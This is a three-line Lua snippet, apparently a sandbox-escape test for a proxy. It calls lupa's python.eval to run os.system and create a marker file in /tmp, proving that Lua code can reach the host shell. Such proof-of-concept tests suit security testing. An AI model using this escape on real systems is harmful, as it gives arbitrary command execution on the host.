-- lupa's python.eval.
python.eval("__import__('os').system('touch /tmp/llmproxy-lua-escape-python_eval')")
return true
